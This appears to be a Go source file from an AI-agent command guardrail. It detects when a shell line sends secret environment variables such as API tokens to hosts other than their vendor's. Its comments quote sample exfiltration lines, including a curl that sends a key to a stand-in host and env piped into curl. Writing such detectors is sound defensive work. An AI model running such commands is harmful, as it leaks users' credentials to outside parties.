package shell

import (
	"strings"

	"github.com/guardrail-go/guardrail/internal/hostaddr"
	"github.com/guardrail-go/guardrail/middleware"
)

// Secrets a command takes from its environment: $GITHUB_TOKEN,
// "${AWS_SECRET_ACCESS_KEY}", $DB_PASSWORD. Their values are private data,
// like a credential file's, so a network call on a line that expands one
// reads the environment (the environment class): sent to a host that is
// not the one the secret is for (curl "https://x.example/?k=$OPENAI_API_KEY")
// it is exfiltration. Sent to its own vendor (Bearer $GITHUB_TOKEN to
// api.github.com) or to this machine or its private network it is the
// secret's ordinary use. A secret of no known vendor has no host of its
// own: sent anywhere off the network it counts as leaving. To teach a
// vendor, add a row.

// secretVendors: the first word of a variable's name → the hosts (and
// their subdomains) its secrets are meant for.
var secretVendors = []struct{ names, hosts string }{
	{"GITHUB GH", "github.com githubusercontent.com ghcr.io"},
	{"GITLAB", "gitlab.com"},
	{"BITBUCKET", "bitbucket.org atlassian.com"},
	{"JIRA ATLASSIAN CONFLUENCE", "atlassian.net atlassian.com"},
	{"OPENAI", "openai.com"},
	{"ANTHROPIC CLAUDE", "anthropic.com"},
	{"MISTRAL", "mistral.ai"},
	{"GROQ", "groq.com"},
	{"COHERE", "cohere.com cohere.ai"},
	{"OPENROUTER", "openrouter.ai"},
	{"DEEPSEEK", "deepseek.com"},
	{"TOGETHER", "together.xyz together.ai"},
	{"PERPLEXITY", "perplexity.ai"},
	{"REPLICATE", "replicate.com"},
	{"HF HUGGINGFACE", "huggingface.co"},
	{"PINECONE", "pinecone.io"},
	{"AWS", "amazonaws.com aws.amazon.com"},
	{"GOOGLE GCP GCLOUD GEMINI FIREBASE", "googleapis.com google.com"},
	{"AZURE", "azure.com azure.net windows.net microsoft.com"},
	{"CLOUDFLARE CF", "cloudflare.com"},
	{"DIGITALOCEAN DO", "digitalocean.com"},
	{"HEROKU", "heroku.com"},
	{"VERCEL", "vercel.com"},
	{"NETLIFY", "netlify.com"},
	{"FLY", "fly.io"},
	{"RENDER", "render.com"},
	{"RAILWAY", "railway.app"},
	{"SUPABASE", "supabase.co supabase.com"},
	{"NPM", "npmjs.org npmjs.com"},
	{"PYPI TWINE", "pypi.org"},
	{"CARGO CRATES", "crates.io"},
	{"RUBYGEMS GEM", "rubygems.org"},
	{"NUGET", "nuget.org"},
	{"DOCKER DOCKERHUB", "docker.io docker.com"},
	{"CIRCLECI CIRCLE", "circleci.com"},
	{"CODECOV", "codecov.io"},
	{"SONAR", "sonarcloud.io"},
	{"SNYK", "snyk.io"},
	{"SENTRY", "sentry.io"},
	{"DATADOG DD", "datadoghq.com datadoghq.eu"},
	{"SLACK", "slack.com"},
	{"DISCORD", "discord.com"},
	{"TELEGRAM", "telegram.org"},
	{"STRIPE", "stripe.com"},
	{"TWILIO", "twilio.com"},
	{"SENDGRID", "sendgrid.com sendgrid.net"},
	{"MAILGUN", "mailgun.net mailgun.org"},
	{"NOTION", "notion.com notion.so"},
	{"LINEAR", "linear.app"},
}

// secretWords are the words of a variable's name that say its value is a
// secret; secretPairs the two-word ones ("API_KEY", "PRIVATE_KEY").
var (
	secretWords = setOf(words("TOKEN TOKENS SECRET SECRETS PASSWORD PASSWORDS PASSWD PASS PASSPHRASE APIKEY CREDENTIAL CREDENTIALS PAT AUTHTOKEN"))
	secretPairs = setOf(words("API_KEY ACCESS_KEY PRIVATE_KEY SECRET_KEY SIGNING_KEY MASTER_KEY CLIENT_KEY ACCOUNT_KEY LICENSE_KEY"))
)

// maxEnvSecrets bounds the secret names one line keeps.
const maxEnvSecrets = 16

// secretEnvName reports whether a variable's name says it holds a secret.
// It walks the words between underscores in place: it is asked of every
// variable a command line expands, so it allocates nothing for a name
// already in capitals.
func secretEnvName(name string) bool {
	up := strings.ToUpper(name)
	prev := -1 // where the previous word starts
	for start := 0; start <= len(up); {
		end := strings.IndexByte(up[start:], '_')
		if end < 0 {
			end = len(up)
		} else {
			end += start
		}
		if secretWords[up[start:end]] || prev >= 0 && secretPairs[up[prev:end]] {
			return true
		}
		prev, start = start, end+1
	}
	return false
}

// noteSecret records that the line expands the variable name when it is
// a secret, and reports whether it is.
func (e *ewalker) noteSecret(name string) bool {
	if !secretEnvName(name) {
		return false
	}
	if len(e.envSecrets) < maxEnvSecrets {
		e.envSecrets = append(e.envSecrets, name)
	}
	return true
}

// secretsTo judges the secrets the line has expanded so far against a
// network call to host (unknown: the host is computed): a secret sent
// where it does not belong reads the environment and sends.
func (e *ewalker) secretsTo(host string, unknown bool) {
	for _, name := range e.envSecrets {
		if !unknown && (hostaddr.Local(host) || ownHost(name, host)) {
			continue
		}
		e.addPath(middleware.EffectRead, environ)
		e.add(middleware.Effect{Op: middleware.EffectNet, Host: host, Dir: dirSend, Unknown: unknown})
		return
	}
}

// ownHost reports whether host is one of the hosts the vendor the
// variable is named after serves.
func ownHost(name, host string) bool {
	first, _, _ := strings.Cut(strings.ToUpper(name), "_")
	host = strings.ToLower(strings.TrimSuffix(host, "."))
	for _, h := range vendorHosts[first] {
		if host == h || strings.HasSuffix(host, "."+h) {
			return true
		}
	}
	return false
}

// vendorHosts is secretVendors by name: a vendor's first word → its hosts.
var vendorHosts = func() map[string][]string {
	m := map[string][]string{}
	for _, v := range secretVendors {
		for _, n := range strings.Fields(v.names) {
			m[n] = append(m[n], strings.Fields(v.hosts)...)
		}
	}
	return m
}()

// outSink is where a command's standard output goes.
type outSink uint8

const (
	outPrinted outSink = iota // to the transcript the model reads
	outPiped                  // into a pipe or a substitution: what takes it judges it
	outFile                   // into a file, which anything on the line may send on
)

// envSecretPrinted is where a secret variable printed to the transcript is
// read from: the policy's printed-secret class (secret:*), as a CLI's
// token printed is (effects_secrets.go). The model reads the value, and
// the session's flows count it as private data read.
var envSecretPrinted = field{s: "secret:env"}

// secretPrinted records what printing a secret variable reads, by
// where the output goes: printed, a printed secret; into a file, the
// environment (echo "$TOKEN" > t; curl -d @t … sends it, as env | curl
// does); into a pipe or a substitution, nothing here: the command that
// takes the value judges it, as an expanded $GITHUB_TOKEN is judged
// (printenv GITHUB_TOKEN | docker login ghcr.io --password-stdin sends
// it to its own vendor).
func (e *ewalker) secretPrinted() {
	switch e.outTo {
	case outPrinted:
		e.addPath(middleware.EffectRead, envSecretPrinted)
	case outFile:
		e.addPath(middleware.EffectRead, environ)
	}
}

// echoedSecret: echo and printf of a word that expands a secret
// variable (echo "$GITHUB_TOKEN"), judged by secretPrinted.
func (e *ewalker) echoedSecret(args []field) {
	for _, a := range args {
		if a.dyn && expandsSecret(a.s) {
			e.secretPrinted()
			return
		}
	}
}

// expandsSecret reports whether a word as the walk spells it ($NAME for a
// variable it cannot know) expands a secret variable.
func expandsSecret(s string) bool {
	for i := strings.IndexByte(s, '$'); i >= 0; i = strings.IndexByte(s, '$') {
		s = s[i+1:]
		if j := nameLen(s); j > 0 && secretEnvName(s[:j]) {
			return true
		}
	}
	return false
}

// printenvFn: printenv alone prints the whole environment (the
// environment class: logged alone, private data for a send). Named
// variables are what their names say: each is noted as an expanded one
// is (noteSecret), and a secret among them is judged by where the output
// goes (secretPrinted).
func printenvFn(e *ewalker, _ string, args []field, _ stdin) stdout {
	var names []string
	for _, a := range args {
		switch {
		case a.dyn || strings.HasPrefix(a.s, "-") && a.s != "-0" && a.s != "--null":
			e.addPath(middleware.EffectRead, environ) // what it prints is not known
			return stdout{}
		case strings.HasPrefix(a.s, "-"):
		default:
			names = append(names, a.s)
		}
	}
	if len(names) == 0 {
		e.addPath(middleware.EffectRead, environ)
		return stdout{}
	}
	secret := false
	for _, n := range names {
		secret = e.noteSecret(n) || secret
	}
	if secret {
		e.secretPrinted()
	}
	return stdout{}
}
